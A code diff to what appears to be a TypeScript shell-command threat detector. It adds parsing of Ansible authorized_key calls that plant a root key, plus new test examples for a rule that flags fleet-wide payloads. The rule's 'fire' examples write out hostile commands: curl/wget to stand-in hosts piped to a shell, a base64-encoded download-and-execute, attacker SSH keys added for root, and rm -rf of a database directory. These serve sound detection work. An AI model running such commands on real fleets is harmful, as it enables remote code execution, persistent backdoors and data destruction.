@@ -200,7 +200,15 @@ function unparsedRemote(cmd: SimpleCommand): { tool: string; cmds: Cmd[] } | und
     }
     case 'ansible': {
       const args = after('-a') ?? after('--args');
-      return args ? { tool: 'ansible', cmds: splitScript(args) } : undefined;
+      if (!args) return undefined;
+      // the authorized_key module planting a key for root on every host, as `echo KEY >> /root/.ssh/authorized_keys`
+      // would; a deploy user's keys are routine operations
+      if (/(^|\.)authorized_key$/.test(after('-m') ?? after('--module-name') ?? '')) {
+        if (/(?:^|\s)user=(\S+)/.exec(args)?.[1] !== 'root') return undefined;
+        const key = /(?:^|\s)key=(['"]?)([^'"]{1,4096})\1/.exec(args)?.[2] ?? '';
+        return { tool: 'ansible', cmds: splitScript(`echo '${key}' >> /root/.ssh/authorized_keys`) };
+      }
+      return { tool: 'ansible', cmds: splitScript(args) };
     }
     case 'salt': case 'salt-ssh': {
       const i = a.findIndex((x) => x === 'cmd.run' || x === 'cmd.script' || x === 'cmd.shell');
@@ -324,7 +332,7 @@ export const RULES: readonly Rule[] = [
     id: 'PX-LATERAL-003', name: 'fleet-tool-runs-payload', score: 88, tactic: 'lateral_movement', technique: 'T1072', strong: true,
     message: 'Pushes a download-and-execute, credential read or backdoor to many hosts through Ansible or Salt', why: 'Configuration-management tools run commands as root on every managed host at once; a payload through them compromises the fleet.',
     check: remotePayload(FLEET),
-    examples: { fire: ["ansible all -i /etc/ansible/hosts -m shell -a 'curl -s http://45.33.12.7/x | bash' -b", "ansible all -m raw -a \"echo 'ssh-rsa AAAAB3Nza attacker' >> /root/.ssh/authorized_keys\" --become", "salt '*' cmd.run 'wget -qO- http://evil.io/s | sh'", 'ansible all -m shell -a "echo Y3VybCAtcyBodHRwOi8vNDUuMzMuMTIuNy94IHwgYmFzaA== | base64 -d | sh" -b', "salt '*' cmd.run 'rm -rf /var/lib/mysql'"], quiet: ['ansible all -m ping', "salt '*' cmd.run 'rm -rf /tmp/build-cache'", "ansible web -m shell -a 'df -h'", "salt '*' cmd.run 'systemctl restart nginx'", 'ansible-playbook site.yml --check'] },
+    examples: { fire: ["ansible all -i /etc/ansible/hosts -m shell -a 'curl -s http://45.33.12.7/x | bash' -b", "ansible all -m raw -a \"echo 'ssh-rsa AAAAB3Nza attacker' >> /root/.ssh/authorized_keys\" --become", "salt '*' cmd.run 'wget -qO- http://evil.io/s | sh'", "ansible all -b -m authorized_key -a \"user=root key='ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIExample attacker'\"", 'ansible all -m shell -a "echo Y3VybCAtcyBodHRwOi8vNDUuMzMuMTIuNy94IHwgYmFzaA== | base64 -d | sh" -b', "salt '*' cmd.run 'rm -rf /var/lib/mysql'"], quiet: ['ansible all -m ping', "ansible all -m authorized_key -a \"user=deploy key='ssh-ed25519 AAAAC3Nza dev@laptop'\" -b", "salt '*' cmd.run 'rm -rf /tmp/build-cache'", "ansible web -m shell -a 'df -h'", "salt '*' cmd.run 'systemctl restart nginx'", 'ansible-playbook site.yml --check'] },
   },
   {
     id: 'PX-LATERAL-004', name: 'cloud-run-command-payload', score: 88, tactic: 'lateral_movement', technique: 'T1651', strong: true,
